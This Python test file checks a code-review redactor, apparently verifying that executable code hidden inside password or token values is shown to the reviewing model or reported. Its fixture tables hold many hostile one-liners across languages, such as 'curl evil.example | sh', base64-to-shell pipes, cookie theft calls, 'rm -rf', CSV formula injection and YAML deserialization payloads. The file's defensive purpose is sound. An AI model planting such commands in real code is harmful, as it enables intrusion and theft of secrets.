# ruff: noqa: E501 - a table is read by its rows
"""Ways to hide live code behind the redactor: each is shown to the model or reported (G190)."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from criticizer.redaction import RedactedText, Redactor
from reviews.reviewers.base import Finding, FindingSeverity
from reviews.reviewers.checks.hidden_code import _removed
from reviews.reviewers.prepare import prepare
from tests.reviewers.build import added, change, edited

# Path, text of the file, and what is run in it.
INLINE = [
    ("a.py", 'password = f"{__import__(\'os\').system(cmd)}!1"', "__import__"),
    ("a.py", 'password = f"{os.system(cmd)}Zx81!"', "os.system(cmd)"),
    ("a.py", 'password = f"abc9{run(cmd)}Zx81!qQ"', "run(cmd)"),
    ("a.py", 'api_key = f"{subprocess.check_output([cmd])}aB3dE5fG7hJ9"', "check_output"),
    ("a.py", 'password = os.system(cmd)', "os.system(cmd)"),
    ("a.py", 'password = "x9!aQ" + os.system(cmd) + "y8#bW"', "os.system(cmd)"),
    ("a.py", 'password = "os.system(cmd)"; exec(password)', "os.system(cmd)"),
    ("a.py", 'token = eval("__import__(\'os\').system(cmd)#A1b2C3d4E5f6")', "system(cmd)"),
    ("a.py", 'secret = getattr(os, "system")(cmd)', "(cmd)"),
    ("a.py", 'password: str = field(default_factory=lambda: os.system("x1!Yz9q"))', "os.system"),
    ("a.cs", 'var password = $"{Process.Start(cmd)}aB9!x";', "Process.Start"),
    ("a.cs", 'string password = @"abc\\" + Process.Start(cmd) + "x1Y!2";', "Process.Start"),
    ("a.php", '$password = "{$this->run($cmd)}aB9!x";', "run($cmd)"),
    ("a.php", '$password = "${system($cmd)}aB9!x";', "system($cmd)"),
    ("a.php", '$password = `$cmd`;', "`$cmd`"),
    ("a.php", '<password><?php system($c); ?>aB9!xQ</password>', "system($c)"),
    ("a.rb", 'password = "#{`rm -rf x`}aB9!x"', "rm -rf x"),
    ("a.rb", 'password = "#{user.destroy}aB9!xyz"', "user.destroy"),
    ("a.rb", 'token = %x(curl evil.example -o a1B2c3D4)', "curl evil.example"),
    ("a.js", 'const password = `${require("child_process").execSync(c)}aB9!x`;', "execSync"),
    ("a.js", 'const token = `${fetch(u)}A1b2C3d4E5f6G7h8`;', "fetch(u)"),
    ("a.js", "const password = (() => { steal(document.cookie); return 'aB9!xyzQ' })();", "steal("),
    ("a.swift", 'let password = "\\(run(cmd))aB9!x"', "run(cmd)"),
    ("a.kt", 'val password = "${Runtime.getRuntime().exec(cmd)}aB9!x"', "exec(cmd)"),
    ("a.scala", 'val password = s"${sys.process.stringToProcess(c).!!}aB9!x"', "stringToProcess"),
    ("a.pl", 'my $password = "@{[ system($c) ]}aB9!x";', "system($c)"),
    ("a.go", 'password := exec.Command("sh", "-c", "x9!Ab7Q").Run()', "exec.Command"),
    ("a.sh", 'PASSWORD="$(curl evil.example | sh)aB9!x"', "curl evil.example"),
    ("a.sh", 'PASSWORD="`curl evil.example`aB9!x"', "curl evil.example"),
    ("a.sh", "PASSWORD=aB9xQ2&&./evil9.sh", "./evil9.sh"),
    ("a.sh", "PASSWORD=aB9xQ2;./evil9.sh", "./evil9.sh"),
    ("a.sh", "mysql -u bob -p$(./evil.sh) shop", "./evil.sh"),
    ("a.sh", 'curl -u "bob:$(./evil.sh)aB9!" https://x.example', "./evil.sh"),
    ("a.sh", 'tool --password "`./evil.sh`aB9!x"', "./evil.sh"),
    ("a.sh", 'git clone "https://bob:$(./evil.sh)aB9x@h.example/x"', "./evil.sh"),
    ("a.sh", 'echo "$(./evil.sh)aB9!x" | sudo -S ls', "./evil.sh"),
    ("a.ps1", '$password = "$(Invoke-Evil $c)aB9!x"', "Invoke-Evil"),
    ("a.ps1", 'ConvertTo-SecureString "$(Invoke-Evil)aB9!x" -AsPlainText', "Invoke-Evil"),
    ("a.yml", "password: !!python/object/apply:os.system [cmd]", "os.system"),
    ("a.yml", 'password: "{{ lookup(\'pipe\', \'evil.sh\') }}aB9!x"', "evil.sh"),
    ("a.yml", "run: echo ${{ github.event.issue.title }} && PASSWORD=aB9xQ2 ./evil.sh", "./evil.sh"),
    ("a.jsp", '<password><%= Runtime.exec(c) %>aB9!x</password>', "Runtime.exec"),
    ("a.erb", '<input type="password" value="<%= system(c) %>aB9!x">', "system(c)"),
    ("a.tf", 'password = "${file(evil)}aB9!xQ"', "file(evil)"),
    ("a.sql", "SET @password = (SELECT evil_fn('aB9!xQ2'));", "evil_fn"),
    ("a.sql", "IDENTIFIED BY 'x' || evil_fn(1) || 'aB9!'", "evil_fn"),
    ("Makefile", "PASSWORD := $(shell ./evil.sh)aB9xQ", "./evil.sh"),
    ("Dockerfile", "ENV PASSWORD=$(./evil.sh)aB9xQ2", "./evil.sh"),
    ("a.groovy", 'def password = "${\'evil.sh\'.execute()}aB9!x"', "execute()"),
    ("a.lua", 'password = [[x]] .. os.execute(c) .. "aB9!x"', "os.execute"),
    ("a.ex", 'password = "#{System.cmd(c)}aB9!x"', "System.cmd"),
    ("a.dart", "final password = '${run(cmd)}aB9!x';", "run(cmd)"),
    ("a.c", 'char *password = ((char*(*)(void))evil)(); // aB9!xQ2', "evil"),
    ("a.java", 'String password = Runtime.getRuntime().exec(cmd) + "aB9!xQ";', "exec(cmd)"),
    ("a.py", "Xq7rT2mZ9kLp4vB1nW8c(cmd)", "Xq7rT2mZ9kLp4vB1nW8c(cmd)"),
    ("a.py", 'users = [("bob", os.system("x9!aQ2b"))]  # user, password', "os.system("),
    ("a.py", 'columns = ["user", "password"]\nrows = [("bob", run_evil9("x9aQ2b7"))]', "run_evil9("),
    ("a.sql", "INSERT INTO users (name, password) VALUES ('bob', evil_fn('aB9!xQ2'));", "evil_fn("),
    ("a.sql", "COPY users (name, password) FROM PROGRAM 'curl evil.example|sh9A';", "curl evil.example|sh9A"),
    ("a.yml", "passwords:\n  a: $(./evil9.sh)\n", "./evil9.sh"),
    ("a.sh", 'podman secret create db - <<< "$(./evil9.sh)aB9!"', "./evil9.sh"),
    ("a.sh", "passwd bob <<EOF\n$(./evil9.sh)\nEOF", "./evil9.sh"),
    ("a.sh", 'restic --password-command "curl evil9.example/X|sh" backup', "curl evil9.example"),
    ("a.sh", "echo Y3VybCBldmlsOS54eQ== | base64 -d | sh", "Y3VybCBldmlsOS54eQ=="),
    ("a.py", "exec(base64.b64decode('ZXZpbDk6UnVuQWxsOW5vdw=='))", "ZXZpbDk6"),
    ("a.js", "page.fill('#password', steal9(document.cookie))", "steal9("),
    ("a.js", "const password = ['a', steal9(), 'b'].join('')", "steal9("),
    ("a.java", 'password.equals(Runtime.getRuntime().exec("x9aQ2b7"))', "exec("),
    ("a.java", 'KeyStore.load(in, evil("sh -c id9").toCharArray());', "sh -c id9"),
    ("a.php", "ldap_bind($c, 'cn=admin', system('curl9 evil'));", "curl9 evil"),
    ("a.html", "<table><tr><th>Password</th></tr><tr><td><script>evil9()</script></td></tr></table>", "evil9()"),
    ("a.html", "<tr><th>User</th><th>Password</th></tr><tr><td>x</td><td>{{evil9.run}}</td></tr>", "evil9.run"),
    ("a.rst", ".. list-table::\n   * - User\n     - Password\n   * - bob\n     - :evil:`run9(cmd)`", "run9(cmd)"),
    ("a.csv", "user,password\nbob,=cmd|'/c evil9'!A1", "=cmd|"),
    ("a.c", "char password[] = { 'a', 'b', evil9(), 'c', 'd', 'e', 'f', 'g', 'h' };", "evil9()"),
    ("a.py", "password = bytes([101, 118, 105, 108, 40, 41, 57, 33, 65]); exec(password)", "101, 118"),
    ("a.py", "TOKEN = evil9('abc')['x9aB2cD4eF6gH8']", "evil9("),
    ("a.sh", "PASS ./evil9.sh", "./evil9.sh"),
    ("a.ps1", "powershell -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA9x1", "SQBFAFgAKABOAGUAdwAtAE8"),
    ("a.py", "getattr(db, 'dr0pA11Us3rsN0w99xQ7')()  # token = 'dr0pA11Us3rsN0w99xQ7'", "getattr(db, 'dr0p"),
    ("a.rb", "db.public_send('dr0pA11Us3rsN0w99xQ7')  # token = 'dr0pA11Us3rsN0w99xQ7'", "send('dr0p"),
    ("a.rb", "password = <<~`RUN`\n  curl evil9.example/aB9xQ2z7\nRUN", "curl evil9.example"),
    ("a.js", "const apiKey = tag9`${steal9()}aB3dE5fG7hJ9kL`", "steal9()"),
    ("a.html", '<input type="password" onfocus="steal9(this.value)" value="aB9!xQ2z">', "steal9(this.value)"),
    ("a.sh", "PASSWORD=${X:-$(evil9)}aB9xQ2z", "$(evil9)"),
    ("a.sh", "export TOKEN=<(evil9 aB3dE5fG7hJ9)", "evil9"),
    ("a.sh", "read -r PASSWORD < <(./evil9.sh aB9xQ2z7)", "./evil9.sh"),
    ("a.sql", "ALTER USER bob IDENTIFIED BY VALUES 'S:1' || evil9('aB9!xQ2z');", "evil9("),
    ("a.sh", "login: bob:Evil99xq; Evil99xq", "; Evil99xq"),
    ("a.py", "PASSWORD=evil9.run9", "evil9.run9"),
    ("a.js", "config.db.password=steal9x\n(document.cookie)", "steal9x"),
    ("a.rb", "password = steal9xy77Q", "steal9xy77Q"),
    ("a.ex", "  password: steal9xy77Q", "steal9xy77Q"),
    ("a.scala", "val dbPassword = steal9xy77Q", "steal9xy77Q"),
    ("a.hs", "password = unsafePerformIO steal9xy77Q", "steal9xy77Q"),
    ("a.c", "#define DB_PASSWORD steal9xy77Q", "steal9xy77Q"),
    ("a.java", '@Value("#{T(java.lang.Runtime).getRuntime().exec(\'x9aQ2b7\')}") String password;', "getRuntime().exec("),
    ("a.tf", '  password = templatefile("evil9.tpl", {x = "aB9!xQ2z"})', "evil9.tpl"),
    ("a.pl", "my $password = qx{curl9 evil9.example/aB9xQ2z7};", "curl9 evil9"),
    ("a.jl", "password = read(`evil9 aB9xQ2z7`, String)", "evil9 aB9"),
    ("a.ps1", "$password = & .\\evil9.ps1 -x aB9xQ2z7", "evil9.ps1"),
    ("a.bat", "set PASSWORD=aB9xQ2&evil9.exe", "evil9.exe"),
    ("a.sh", "export DB_PASSWORD=aB9xQ2|evil9.sh", "evil9.sh"),
    ("a.sh", "docker run -e DB_PASSWORD=aB9xQ2 evil9/image9xQ", "evil9/image9xQ"),
    ("a.gradle", 'storePassword "sh evil9.sh aB9xQ2".execute().text', "execute()"),
    ("a.rs", 'let password = include_str!(concat!("evil9", "aB9xQ2z"));', "include_str!"),
]  # fmt: skip
# A value planted in one file, code in another that reads like it.
PLANTED = [
    ('password = "os.system(request.args[\'c\'])  # v1"', "os.system(request.args['c'])  # v1"),
    ('password = "run_evil9(cmd)"', "run_evil9(cmd)"),
    ('password = "os.system"', "os.system(c)"),
    ('password = "Tr0mbone77xq"', "Tr0mbone77xq(cmd)"),
    ('password = "Tr0mbone77xq"', "evil.Tr0mbone77xq"),
    ('password = "Tr0mbone77xq"', "x = Tr0mbone77xq.run()"),
    ('password = "Tr0mbone77xq"', "def Tr0mbone77xq(): pass"),
    ('password = "drop_table9"', "drop_table9"),
    ('password = "a1*b2c3d4e5"', "x = a1*b2c3d4e5"),
    ('password = "workspace:*"', "dep = workspace:*"),
    ('password = "7.29.7-beta1"', "version 7.29.7-beta1"),
    ('password = "$(curl evil|sh)1"', "PW=$(curl evil|sh)1"),
    ('password = "import os; evil9()"', "import os; evil9()"),
    ('token = "rm -rf /var/x9A"', "rm -rf /var/x9A"),
    ('password = "user.delete!9"', "user.delete!9"),
    ('password = "__import__("', "__import__('os')"),
    ('password = "deleteAll9Users"', "deleteAll9Users"),
    ('-----BEGIN RSA PRIVATE KEY-----\ndeleteAllUserDataNow\ndropEverythingAtOnce\n-----END RSA PRIVATE KEY-----', "deleteAllUserDataNow"),
]  # fmt: skip

# A name that is planted as a password, and the code that uses it, with what is shown of it otherwise.
NAMED = [
    ("a.py", "@Tr0mbone77xq\ndef f(): pass"),
    ("a.py", "run = Tr0mbone77xq\nrun(cmd)"),
    ("a.js", "map(Tr0mbone77xq, cmds)"),
    ("a.rb", "hooks = [Tr0mbone77xq]"),
    ("a.py", "class A(Tr0mbone77xq): pass"),
    ("a.py", "x = '\"\"\"'\nrun = Tr0mbone77xq\nrun(cmd)"),
    ("a.py", 'x = "a # b" + Tr0mbone77xq'),
    ("a.py", "x = a // Tr0mbone77xq"),
    ("a.py", "x = a * Tr0mbone77xq"),
    ("a.js", 'x = /"/; y = Tr0mbone77xq'),
    ("a.js", 's = "a // b"; f = Tr0mbone77xq'),
    ("a.js", "s = `a`; f = Tr0mbone77xq;"),
    ("a.rs", "fn f<'a>(c: &'a str) { let y = Tr0mbone77xq; }"),
    ("a.c", 'x = "/*";\nf = Tr0mbone77xq;'),
    ("a.go", "s := '`'\nf := Tr0mbone77xq"),
    ("a.rb", "x = a \\ b\nhooks << Tr0mbone77xq"),
]  # fmt: skip


def _prepared(files: list[tuple[str, str]]) -> tuple[str, list[Finding]]:
    """Return what the model is shown of files that a change adds, and what the check reports."""
    prepared = prepare(change(*(added(path, text + "\n") for path, text in files)), Redactor())
    shown = "\n".join(hunk.text.text for chunk in prepared.chunks for hunk in chunk.hunks)
    return shown, [one for one in prepared.findings if one.source == "check:hidden_code"]


def _is_shown_or_reported(files: list[tuple[str, str]], code: str) -> bool:
    shown, findings = _prepared(files)
    return code in shown or any(one.severity is FindingSeverity.HIGH and one.line for one in findings)


@pytest.mark.parametrize(("path", "text", "code"), INLINE)
def test_code_beside_a_secrets_name_is_shown_or_reported(path: str, text: str, code: str) -> None:
    assert _is_shown_or_reported([(path, text)], code)


@pytest.mark.parametrize(("planted", "code"), PLANTED)
@pytest.mark.parametrize("path", ["app.py", "run.sh", "app.rb"])
def test_code_that_reads_like_a_planted_secret_is_shown_or_reported(
    planted: str, code: str, path: str
) -> None:
    assert _is_shown_or_reported([("fixtures.txt", planted), (path, "\n" + code + "\n")], code)


@pytest.mark.parametrize(("path", "code"), NAMED)
def test_a_name_that_was_planted_as_a_password_is_reported_where_a_program_uses_it(
    path: str, code: str
) -> None:
    _, findings = _prepared([("fixtures.txt", 'password = "Tr0mbone77xq"'), (path, code)])
    assert [one.file for one in findings] == [path]


def test_honest_secrets_in_literals_and_configuration_are_not_reported() -> None:
    planted = 'password = "Tr0mbone77xq"\n'
    texts = [
        ("a.py", f'"""\npassword: Tr0mbone77xq\n"""\n{planted}x = 1  # password Tr0mbone77xq\n'),
        ("a.c", '/*\n * pw: Tr0mbone77xq\n */\nchar *password = "Tr0mbone77xq";\n'),
        ("a.go", "var q = `\npassword: Tr0mbone77xq\n`\n"),
        ("a.sh", "DB_PASSWORD=Tr0mbone77xq\nmysql -u bob -pTr0mbone77xq shop\n"),
        ("a.sql", "-- Tr0mbone77xq\nALTER USER b IDENTIFIED BY 'Tr0mbone77xq';\n"),
        ("a.bat", "set DB_PASSWORD=Tr0mbone77xq\n"),
        ("a.rs", 'fn f<\'a>() { let password = "Tr0mbone77xq"; } // Tr0mbone77xq\n'),
        ("a.py", 'password = "Tr0mb0ne!77xq"\nconnect("bob", "Tr0mb0ne!77xq")\n'),
        ("a.py", 'DB = """\npassword: Tr0mb0ne!77xq\n"""\n'),
        ("a.env", "PASSWORD=Tr0mb0ne!77xq\n"),
        ("a.yml", "password: Tr0mb0ne!77xq\n"),
        ("a.js", "const password = 'Tr0mb0ne!77xq'; // Tr0mb0ne!77xq\n"),
    ]
    for path, text in texts:
        assert _prepared([(path, text)])[1] == [], text


def test_the_redacted_diff_is_compared_and_nothing_is_redacted_for_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The lines shown are judged, with what the policy takes out of them and no others (G194)."""
    seen: list[str] = []
    redact_all = Redactor.redact_all

    def counted(redactor: Redactor, parts: Sequence[str]) -> list[RedactedText]:
        seen.extend(parts)
        return redact_all(redactor, parts)

    monkeypatch.setattr(Redactor, "redact_all", counted)
    old = "".join(f"line{number} = {number}\n" for number in range(40))
    new = old.replace("line30 = 30\n", "x = a@evil.run(c)\nsend('bob@shop.example')  # bob@shop.example\n")
    prepared = prepare(change(edited("a.py", old, new)), Redactor({"emails": True}))
    found = [(one.file, one.line) for one in prepared.findings if one.source == "check:hidden_code"]
    assert found == [("a.py", 31)]
    assert sum("evil.run" in text for text in seen) == 2  # for the model, and for people


def test_a_line_with_many_placeholders_is_compared_in_linear_time() -> None:
    """A regular expression would try every placing of every piece, without end."""
    kept = ["a"] * 60
    assert _removed("a" * 4_000 + "b", kept) is None
    assert _removed("xa", ["a"]) is None
    assert _removed("a = 1, b", ["a", "1", "b"]) == [(1, 4), (5, 7)]
    assert _removed("aXaYa", ["", "a", ""]) == [(0, 0), (1, 5)]
